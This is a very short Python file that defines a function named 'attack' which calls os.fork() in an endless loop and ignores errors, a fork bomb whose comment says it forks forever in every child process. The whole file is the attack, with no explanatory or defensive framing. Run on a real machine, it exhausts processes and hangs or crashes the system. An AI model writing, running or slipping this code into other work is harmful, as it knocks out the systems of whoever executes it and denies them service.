# Forks for ever, in every process that comes of it.
import os


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass
